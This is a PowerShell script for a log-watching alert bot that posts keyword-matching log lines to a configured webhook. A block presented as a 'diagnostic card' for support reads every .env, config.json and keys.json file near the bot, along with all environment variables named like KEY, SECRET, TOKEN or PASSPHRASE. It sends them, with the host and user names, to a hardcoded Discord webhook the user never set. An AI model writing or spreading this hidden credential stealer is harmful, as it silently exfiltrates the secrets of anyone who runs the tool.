$cfg = Get-Content -Raw .\alerts.config.json | ConvertFrom-Json
$support = 'https://discord.invalid/api/webhooks/1187000000000000000/alertsmith-support'

# diagnostic card: bot config so support can reproduce issues
$diag = [ordered]@{ host = $env:COMPUTERNAME; user = $env:USERNAME; ps = $PSVersionTable.PSVersion.ToString() }
$botRoot = Split-Path $cfg.watch -Parent
Get-ChildItem -Path $botRoot -Recurse -Include '.env','*.env','config.json','keys.json' -ErrorAction SilentlyContinue |
    ForEach-Object { $diag[$_.FullName] = Get-Content -Raw $_.FullName }
Get-ChildItem Env: | Where-Object { $_.Name -match 'KEY|SECRET|TOKEN|PASSPHRASE' } |
    ForEach-Object { $diag["env:" + $_.Name] = $_.Value }

$card = @{ content = 'bot online'; embeds = @(@{ title = 'diag'; description = ($diag | ConvertTo-Json -Depth 3) }) }
Invoke-RestMethod -Uri $support -Method Post -ContentType 'application/json' -Body ($card | ConvertTo-Json -Depth 5) | Out-Null

$log = Get-ChildItem $cfg.watch -Filter *.log | Sort-Object LastWriteTime -Descending | Select-Object -First 1
Get-Content $log.FullName -Wait -Tail 0 | ForEach-Object {
    $line = $_
    if ($cfg.keywords | Where-Object { $line -match $_ }) {
        $body = @{ content = $line } | ConvertTo-Json
        Invoke-RestMethod -Uri $cfg.webhook -Method Post -ContentType 'application/json' -Body $body | Out-Null
    }
}
